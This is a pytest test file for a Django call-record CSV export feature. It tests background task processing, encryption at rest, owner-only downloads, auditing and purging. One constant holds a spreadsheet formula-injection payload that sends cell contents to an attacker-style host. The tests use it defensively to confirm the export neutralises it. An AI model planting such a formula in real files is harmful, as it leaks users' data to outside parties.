"""A customer's CSV export of own calls beyond STREAM_MAX_CALLS: recorded by the web request, written by a
Celery task into an encrypted file, shown on its own page, downloaded by its owner only (audited),
reaped when its worker dies, re-sent after a broker outage, purged after a day (issue 16, item 6)."""
from __future__ import annotations

import csv
import io
import time
from datetime import date, timedelta

import pytest
from django.conf import settings as django_settings
from django.db import connection
from django.utils.timezone import now

from tests.broker import broker_outage
from tests.factories import make_cdrs, make_user, verified_client
from traffic import purgers
from traffic.models import CallExport
from traffic.services import call_exports
from traffic.services.call_exports import (
    ACTIVE_MAX, EXPORT_REAPED, LEASE, STREAM_MAX_CALLS, CallExportBusy, call_export_request,
)
from voipxs.privacy.audit import actor_ref
from voipxs.privacy.models import AuditEntry
from voipxs.privacy.registry import purgers as registered_purgers

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
BIG = 3000


@pytest.fixture(autouse=True)
def private_dir(settings, tmp_path):
    settings.PRIVATE_FILES_DIR = tmp_path
    return tmp_path


def _rows(response) -> list[list[str]]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def _files(private_dir) -> list[str]:
    folder = private_dir / "call-exports"
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


def _export_page(client, alice, django_capture_on_commit_callbacks, *, query: str = "") -> CallExport:
    """Ask for an export on the page and let its task run (in-process), as the worker would."""
    with django_capture_on_commit_callbacks(execute=True):
        response = verified_client(client, alice).get(f"/calls/export.csv{query}")
    export = CallExport.objects.get(owner=alice)
    assert response.status_code == 302 and response["Location"] == f"/calls/exports/{export.pk}/"
    export.refresh_from_db()
    return export


@pytest.mark.django_db
class CallExportPageTests:
    def test_it_streams_an_export_up_to_the_threshold_at_once(self, client, alice):
        make_cdrs(account=alice, n=STREAM_MAX_CALLS)
        response = verified_client(client, alice).get("/calls/export.csv")
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        assert len(_rows(response)) == STREAM_MAX_CALLS + 1
        assert not CallExport.objects.exists()

    def test_a_big_export_completes_through_the_task_and_the_download_has_every_row(
            self, client, alice, private_dir, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=BIG)
        export = _export_page(client, alice, django_capture_on_commit_callbacks)
        assert (export.status, export.calls) == ("ready", BIG)

        page = client.get(f"/calls/exports/{export.pk}/").content.decode()
        assert f"Your export of {BIG} calls is ready." in page or f"Your export of {BIG:,} calls is ready." in page
        assert f'href="/calls/exports/{export.pk}/download/"' in page and 'http-equiv="refresh"' not in page
        assert "<script" not in page

        response = client.get(f"/calls/exports/{export.pk}/download/")
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        assert int(response["Content-Length"]) == export.size
        rows = _rows(response)
        assert rows[0][:5] == ["started_at", "direction", "disposition", "own_number", "other_number"]
        other = rows[0].index("other_number")
        assert sorted(r[other] for r in rows[1:]) == sorted(f"'+316{i:08d}" for i in range(BIG))

    def test_the_file_at_rest_is_encrypted(self, client, alice, private_dir, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=STREAM_MAX_CALLS + 1, caller_name="Jan de Vries")
        export = _export_page(client, alice, django_capture_on_commit_callbacks)
        stored = (private_dir / "call-exports" / export.file_name).read_bytes()
        assert b"Jan de Vries" not in stored and b"+316" not in stored and b"started_at" not in stored

    def test_the_request_that_starts_a_big_export_returns_before_the_file_exists(
            self, client, alice, private_dir, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=BIG)
        started = time.monotonic()
        with django_capture_on_commit_callbacks(execute=False) as queued:
            response = verified_client(client, alice).get("/calls/export.csv")
        elapsed = time.monotonic() - started
        export = CallExport.objects.get(owner=alice)
        assert response.status_code == 302 and export.status == "queued" and _files(private_dir) == []
        assert elapsed < 2.0  # loose: it counted up to 1,001 calls and wrote one row, nothing more

        page = client.get(f"/calls/exports/{export.pk}/").content.decode()
        assert 'http-equiv="refresh" content="3"' in page and "<script" not in page
        assert f'href="/calls/exports/{export.pk}/"' in page  # "Refresh now": a plain link
        assert client.get(f"/calls/exports/{export.pk}/download/")["Location"] == f"/calls/exports/{export.pk}/"

        for callback in queued:  # the worker's turn
            callback()
        export.refresh_from_db()
        assert export.status == "ready" and _files(private_dir) == [export.file_name]

    def test_it_neutralises_formula_injection_in_the_file(self, client, alice, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=STREAM_MAX_CALLS + 1, caller_name=HOSTILE)
        export = _export_page(client, alice, django_capture_on_commit_callbacks)
        rows = _rows(client.get(f"/calls/exports/{export.pk}/download/"))
        names = {r[rows[0].index("caller_name")] for r in rows[1:]}
        assert names == {"'" + HOSTILE}

    def test_another_customer_gets_404_for_the_page_and_the_download(
            self, client, alice, mallory, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=STREAM_MAX_CALLS + 1)
        export = _export_page(client, alice, django_capture_on_commit_callbacks)
        verified_client(client, mallory)
        for path in (f"/calls/exports/{export.pk}/", f"/calls/exports/{export.pk}/download/",
                     f"/api/v1/me/call-exports/{export.pk}/", f"/api/v1/me/call-exports/{export.pk}/download/"):
            assert client.get(path).status_code == 404, path
        assert not AuditEntry.objects.filter(action="call_export.download").exists()

    def test_downloads_are_audited_and_the_task_read_as_the_owner(
            self, client, alice, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=STREAM_MAX_CALLS + 1)
        export = _export_page(client, alice, django_capture_on_commit_callbacks)
        b"".join(client.get(f"/calls/exports/{export.pk}/download/").streaming_content)
        actions = set(AuditEntry.objects.filter(actor=actor_ref(alice)).values_list("action", "target_type"))
        assert ("cdr.export", "user") in actions  # the task's read, through cdr_export_rows, as the owner
        assert {("call_export.create", "call_export"), ("call_export.download", "call_export")} <= actions

    def test_the_page_works_in_dutch(self, client, alice, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=STREAM_MAX_CALLS + 1)
        export = _export_page(client, alice, django_capture_on_commit_callbacks)
        client.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "nl"
        page = client.get(f"/calls/exports/{export.pk}/").content.decode()
        assert '<html lang="nl">' in page
        assert "Uw export van gesprekken" in page and "gesprekken is klaar." in page
        assert "Download het CSV-bestand" in page and "Terug naar mijn gesprekken" in page

        CallExport.objects.filter(pk=export.pk).update(status="queued")
        page = client.get(f"/calls/exports/{export.pk}/").content.decode()
        assert "Uw export wacht op zijn beurt." in page and "Nu verversen" in page

    def test_the_number_filter_is_stored_encrypted_and_means_what_it_means_on_the_page(
            self, client, alice, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=STREAM_MAX_CALLS + 1, src="+31205550101")
        export = _export_page(client, alice, django_capture_on_commit_callbacks, query="?number=020+555+0101")
        assert export.calls == STREAM_MAX_CALLS + 1 and export.number == "+31205550101"
        with connection.cursor() as cursor:
            cursor.execute("SELECT * FROM traffic_callexport WHERE id = %s", [export.pk])
            raw = repr(cursor.fetchone())
        assert "205550101" not in raw and export.number_index in raw

    def test_a_broker_outage_leaves_the_export_queued_and_the_reaper_sends_it_again(
            self, client, alice, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=STREAM_MAX_CALLS + 1)
        later = now() + timedelta(seconds=django_settings.TASK_RESEND_AFTER_SECONDS + 60)
        with broker_outage():
            with django_capture_on_commit_callbacks(execute=True):
                response = verified_client(client, alice).get("/calls/export.csv")
            export = CallExport.objects.get(owner=alice)
            assert response.status_code == 302 and export.status == "queued"
            assert client.get(response["Location"]).status_code == 200
            assert call_exports.call_exports_requeue(at=later) == []  # still down

        assert call_exports.call_exports_requeue() == []  # not yet: it may still be in the queue
        assert call_exports.call_exports_requeue(at=later) == [export.pk]
        export.refresh_from_db()
        assert export.status == "ready"  # in-process here; a worker in production

    def test_the_same_export_asked_twice_is_one_and_a_customer_has_at_most_three_waiting(
            self, alice, django_capture_on_commit_callbacks):
        first = call_export_request(owner=alice, number="020 555 0101")
        assert call_export_request(owner=alice, number="+31205550101").pk == first.pk
        for day in (1, 2):
            call_export_request(owner=alice, since=date(2026, 1, day))
        with pytest.raises(CallExportBusy):
            call_export_request(owner=alice, direction="in")
        assert CallExport.objects.filter(owner=alice).count() == ACTIVE_MAX

    def test_a_second_delivery_of_the_task_does_nothing(self, alice, private_dir, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=5)
        with django_capture_on_commit_callbacks(execute=True):
            export = call_export_request(owner=alice)
        export.refresh_from_db()
        again = call_exports.call_export_build(export_id=export.pk)
        assert (again.status, again.file_name) == ("ready", export.file_name) and len(_files(private_dir)) == 1


@pytest.mark.django_db
class CallExportReaperAndPurgeTests:
    def test_the_reaper_fails_a_run_whose_worker_died_and_deletes_what_it_wrote(self, alice, private_dir):
        export = call_export_request(owner=alice)
        (private_dir / "call-exports").mkdir()
        (private_dir / "call-exports" / "calls-dead.csv.enc").write_bytes(b"half")
        CallExport.objects.filter(pk=export.pk).update(status="running", file_name="calls-dead.csv.enc",
                                                       started_at=now() - LEASE + timedelta(minutes=1))
        assert call_exports.call_exports_reap() == []  # still within its lease
        assert call_exports.call_exports_reap(at=now() + timedelta(minutes=2)) == [export.pk]
        export.refresh_from_db()
        assert (export.status, export.error) == ("failed", EXPORT_REAPED) and _files(private_dir) == []

    def test_expired_exports_are_purged_with_their_files(self, alice, private_dir, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=3)
        with django_capture_on_commit_callbacks(execute=True):
            old = call_export_request(owner=alice, since=date(2020, 1, 1))
        old.refresh_from_db()
        assert old.status == "ready" and _files(private_dir) == [old.file_name]
        fresh = call_export_request(owner=alice, direction="in")  # queued, not expired

        later = old.expires_at + timedelta(seconds=1)
        CallExport.objects.filter(pk=fresh.pk).update(expires_at=later + timedelta(hours=1))
        assert registered_purgers()[purgers.CALL_EXPORTS] is purgers.call_exports_purge
        assert purgers.call_exports_purge(now=later, dry_run=True) == {"deleted": 1}
        assert _files(private_dir) == [old.file_name]
        assert purgers.call_exports_purge(now=later) == {"deleted": 1}
        assert _files(private_dir) == [] and list(CallExport.objects.values_list("pk", flat=True)) == [fresh.pk]
        assert AuditEntry.objects.filter(action="call_export.purge").exists()

    def test_an_expired_export_is_gone_for_its_owner_before_the_purge(self, client, alice,
                                                                        django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=2)
        with django_capture_on_commit_callbacks(execute=True):
            export = call_export_request(owner=alice)
        CallExport.objects.filter(pk=export.pk).update(expires_at=now() - timedelta(seconds=1))
        verified_client(client, alice)
        assert client.get(f"/calls/exports/{export.pk}/download/").status_code == 404
        assert client.get(f"/api/v1/me/call-exports/{export.pk}/download/").status_code == 404

    @pytest.mark.audit_guard_exempt("it calls erasure's calls section alone; the erasure service that calls it "
                                     "(dsr_erasure_perform) records its purpose, dsr.erase")
    def test_erasure_deletes_the_persons_export_files_at_once(self, alice, bob, private_dir,
                                                               django_capture_on_commit_callbacks):
        from traffic.sections import calls_erase

        make_cdrs(account=alice, n=2)
        make_cdrs(account=bob, n=2, src="+31205550201")
        with django_capture_on_commit_callbacks(execute=True):
            call_export_request(owner=alice)
            kept = call_export_request(owner=bob)
        assert len(_files(private_dir)) == 2
        assert calls_erase(alice, [])["export_files"] == 1
        assert list(CallExport.objects.values_list("pk", flat=True)) == [kept.pk]
        assert _files(private_dir) == [CallExport.objects.get().file_name]


@pytest.mark.django_db
class CallExportApiTests:
    def test_post_creates_an_export_202_with_its_status_url_and_the_download_works(
            self, client, alice, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=12, caller_name=HOSTILE)
        verified_client(client, alice)
        with django_capture_on_commit_callbacks(execute=False) as queued:
            response = client.post("/api/v1/me/call-exports/", {"direction": "out"}, content_type="application/json")
        assert response.status_code == 202
        body = response.json()
        assert body["status"] == "queued" and body["download_url"] is None and body["number_filter"] is False
        assert body["status_url"].endswith(f"/api/v1/me/call-exports/{body['id']}/")
        assert response["Location"] == body["status_url"]
        assert client.get(f"/api/v1/me/call-exports/{body['id']}/download/").status_code == 409

        for callback in queued:
            callback()
        status = client.get(f"/api/v1/me/call-exports/{body['id']}/").json()
        assert (status["status"], status["calls"]) == ("ready", 12)
        response = client.get(status["download_url"])
        rows = _rows(response)
        assert len(rows) == 13 and {r[rows[0].index("caller_name")] for r in rows[1:]} == {"'" + HOSTILE}

    @pytest.mark.parametrize("payload, field", [
        ({"number": "hello"}, "number"), ({"since": "2026-02-02", "until": "2026-02-01"}, "until"),
        ({"direction": "sideways"}, "direction"), ({"since": "nope"}, "since"), ({"invoice": 0}, "invoice"),
    ])
    def test_a_bad_filter_is_a_400_naming_the_field_and_nothing_is_queued(self, client, alice, payload, field):
        response = verified_client(client, alice).post("/api/v1/me/call-exports/", payload,
                                                       content_type="application/json")
        assert response.status_code == 400
        body = response.json()
        assert field in body or body.get("field") == field
        assert not CallExport.objects.exists()

    def test_the_csv_endpoints_answer_a_big_export_with_202_and_a_small_one_with_the_file(
            self, client, alice, django_capture_on_commit_callbacks):
        make_cdrs(account=alice, n=STREAM_MAX_CALLS + 1)
        verified_client(client, alice)
        for url in ("/api/v1/me/calls.csv", "/api/v1/me/calls/?format=csv"):
            with django_capture_on_commit_callbacks(execute=False):
                response = client.get(url)
            assert response.status_code == 202 and response["Content-Type"] == "application/json", url
            assert response.json()["status"] == "queued"
        assert CallExport.objects.filter(owner=alice).count() == 1  # the same export, asked twice
        response = client.get(f"/api/v1/me/calls.csv?since={(now() - timedelta(minutes=30)).date()}"
                              f"&until={now().date()}&direction=out")
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")

    def test_a_fourth_waiting_export_is_429(self, client, alice):
        for day in (1, 2, 3):
            call_export_request(owner=alice, since=date(2026, 1, day))
        response = verified_client(client, alice).post("/api/v1/me/call-exports/", {"direction": "in"},
                                                       content_type="application/json")
        assert response.status_code == 429 and "wait" in response.json()["detail"]

    def test_the_operations_are_in_the_openapi_schema(self, client, alice):
        schema = verified_client(client, alice).get("/api/schema/?format=json").json()
        assert "202" in schema["paths"]["/api/v1/me/call-exports/"]["post"]["responses"]
        assert "get" in schema["paths"]["/api/v1/me/call-exports/{export_id}/"]
        download = schema["paths"]["/api/v1/me/call-exports/{export_id}/download/"]["get"]["responses"]
        assert "text/csv" in download["200"]["content"] and "409" in download and "404" in download
        assert "202" in schema["paths"]["/api/v1/me/calls.csv"]["get"]["responses"]


@pytest.mark.redis
@pytest.mark.django_db(transaction=True)
@pytest.mark.usefixtures("audit_log_flushable", "partitions_restored")
class CallExportWorkerTests:
    def test_a_real_worker_on_redis_writes_a_big_export_while_the_page_waits(self, client, settings, tmp_path,
                                                                                real_worker):
        settings.PRIVATE_FILES_DIR = tmp_path
        owner = make_user("alice-export", numbers=["+31205550101"])
        make_cdrs(account=owner, n=BIG, caller_name=HOSTILE)
        verified_client(client, owner)

        response = client.get("/calls/export.csv")
        assert response.status_code == 302
        export = CallExport.objects.get(owner=owner)
        deadline = time.monotonic() + 60
        while time.monotonic() < deadline and CallExport.objects.get(pk=export.pk).status in ("queued", "running"):
            time.sleep(0.2)
        export.refresh_from_db()
        assert (export.status, export.calls) == ("ready", BIG)
        assert "calls is ready." in client.get(response["Location"]).content.decode()
        rows = _rows(client.get(f"/calls/exports/{export.pk}/download/"))
        assert len(rows) == BIG + 1 and {r[rows[0].index("caller_name")] for r in rows[1:]} == {"'" + HOSTILE}
